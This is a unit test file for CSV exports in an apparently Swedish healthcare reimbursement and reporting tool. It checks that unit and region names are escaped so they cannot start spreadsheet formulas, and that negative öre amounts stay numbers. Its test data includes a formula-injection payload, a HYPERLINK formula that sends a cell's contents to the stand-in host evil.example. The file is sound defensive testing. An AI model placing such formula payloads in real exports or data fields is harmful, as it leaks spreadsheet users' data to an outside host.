import { describe, expect, it } from "vitest";
import { scenarioCsv } from "../../domain/reimbursement/index.ts";
import { openDataCsv } from "./open-data.service.ts";

// A unit or region name is text someone typed into an import: in a CSV the product writes it must not
// start a formula in the reader's spreadsheet, while negative öre amounts stay numbers.
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")';

const groups = {
  phone: { offered: 120, answeredSameDay: 100, rate: 0.8333, suppressed: false },
  resident: {
    contacts: 40,
    respondedSameDay: 30,
    rate: 0.75,
    feedbackSameDay: 20,
    feedbackRate: 0.5,
    suppressed: false,
  },
  assessment: { eligible: 10, within3: 9, rate: 0.9, suppressed: false },
};

describe("CSV exports neutralise formula text", () => {
  it("the open-data CSV (public endpoint)", () => {
    const csv = openDataCsv(
      {
        region: "22",
        month: "2026-01",
        total: groups,
        units: [
          {
            unitHsaId: "SE2321000000-E0001",
            name: "+Kramfors hc",
            kommunCode: "2282",
            kommunName: "@Kramfors",
            type: "halsocentral",
            ownership: "regional",
            ...groups,
          },
        ],
      },
      HOSTILE,
    );
    const [, total, unit] = csv.split("\n");
    expect(total).toBe(
      `22,2026-01,,"'=HYPERLINK(""http://evil.example/?""&A1,""Klicka"")",,,,,120,100,0.8333,false,40,30,0.75,20,0.5,false,10,9,0.9,false`,
    );
    expect(unit).toBe(
      "22,2026-01,SE2321000000-E0001,'+Kramfors hc,2282,'@Kramfors,halsocentral,regional,120,100,0.8333,false,40,30,0.75,20,0.5,false,10,9,0.9,false",
    );
  });

  it("the scenario comparison, keeping negative öre as numbers", () => {
    const csv = scenarioCsv({
      rows: [
        {
          hsaId: "SE1",
          unitName: "-1+1",
          component: "capitation",
          aOre: "100",
          bOre: "-50",
          diffOre: "-150",
        },
      ],
      totals: [{ component: "capitation", aOre: "100", bOre: "-50", diffOre: "-150" }],
    });
    expect(csv).toBe(
      "unit_hsa_id,unit_name,component,a_ore,b_ore,diff_ore\r\nSE1,'-1+1,capitation,100,-50,-150\r\n,Total,capitation,100,-50,-150\r\n",
    );
  });
});
